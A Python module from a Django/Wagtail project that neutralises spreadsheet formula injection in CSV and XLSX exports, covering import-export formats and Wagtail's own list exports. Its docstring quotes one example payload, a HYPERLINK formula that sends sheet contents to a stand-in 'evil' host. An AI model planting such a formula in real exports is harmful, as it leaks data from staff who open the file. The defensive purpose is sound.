"""The one rule for spreadsheets we hand out: no value a family or partner typed opens as a formula.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and a tab or a
carriage return in front can hide the sign from a naive check), so `=HYPERLINK("http://evil/"&A1,"x")`
typed as a school would send the sheet's contents away when staff open the export. Such text gets a
leading apostrophe, the mark spreadsheets themselves use for "this is text" (OWASP's advice for CSV
injection); XLSX cells are then written as text, never as formulas.

Numbers stay numbers: a value that is a number (an amount, a count), or text that is only a signed
number such as `-12.50` or `+15`, cannot carry a formula and is kept as it is so it still sorts and
sums. JSON and the HSDS files are data interchange read by programs, not spreadsheets: they keep values
exactly.

Every export goes through here: import-export resources through `CSV` and `XLSX` below (or `export`),
Wagtail's own list and report exports through `neutralise_wagtail_exports`, installed once at start-up.
"""

import re

from django.http import HttpResponse
from import_export.formats import base_formats

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(,\d{3})*|\d*)(\.\d+)?")


def neutralise(value):
    """`value`, or for text a spreadsheet would read as a formula, the same text as plain text."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if any(character.isdigit() for character in value) and PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def restore(value):
    """The value `neutralise` was given: a file we exported imports back as it was."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def _map_dataset(dataset, function):
    """Apply `function` to every cell of a tablib Dataset in place (headings included), and return it."""
    if dataset.headers:
        dataset.headers = [function(heading) for heading in dataset.headers]
    rows = [[function(cell) for cell in row] for row in dataset]
    del dataset[:]  # tablib rows are tuples: rebuild them
    dataset.extend(rows)
    return dataset


def neutralise_dataset(dataset):
    return _map_dataset(dataset, neutralise)


class _SafeFormat:
    """Exports neutralised, imports restored.

    import-export's own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT (on in settings) then only drops a leading
    "=", which no value has any more; ours is the rule that counts.
    """

    def export_data(self, dataset, **kwargs):
        return super().export_data(neutralise_dataset(dataset), **kwargs)

    def create_dataset(self, in_stream, **kwargs):
        return _map_dataset(super().create_dataset(in_stream, **kwargs), restore)


class CSV(_SafeFormat, base_formats.CSV):
    """CSV in which a formula-looking value reads as text."""


class XLSX(_SafeFormat, base_formats.XLSX):
    """XLSX in which every text cell is written as text (openpyxl writes text starting with "=" as a formula)."""


class JSON(base_formats.JSON):
    """JSON keeps values exactly: programs read it, and a re-import must get back what was exported."""

    def export_data(self, dataset, **kwargs):
        return dataset.export(self.get_title(), **kwargs)


FORMATS = {"csv": CSV, "xlsx": XLSX}


def export(dataset, file_format):
    """A tablib Dataset as the bytes of a safe `csv` or `xlsx` file."""
    content = FORMATS[file_format]().export_data(dataset)
    return content.encode() if isinstance(content, str) else content


def content_type(file_format):
    return FORMATS[file_format]().get_content_type()


def download(dataset, file_format, filename):
    """A response that downloads `dataset` as `filename`.csv or .xlsx; any other format asked for gets CSV."""
    file_format = file_format if file_format in FORMATS else "csv"
    response = HttpResponse(export(dataset, file_format), content_type=content_type(file_format))
    response["Content-Disposition"] = f'attachment; filename="{filename}.{file_format}"'
    return response


def neutralise_wagtail_exports():
    """Make Wagtail's spreadsheet exports (list_export on viewsets and reports, built-in reports) follow the rule.

    Wagtail converts a formula back to text in XLSX but writes CSV cells as they are; wrapping its one
    per-value hook covers every export view, ours and Wagtail's, including any added later.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(original(self, field, value, export_format))

    preprocess_field_value.neutralises = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
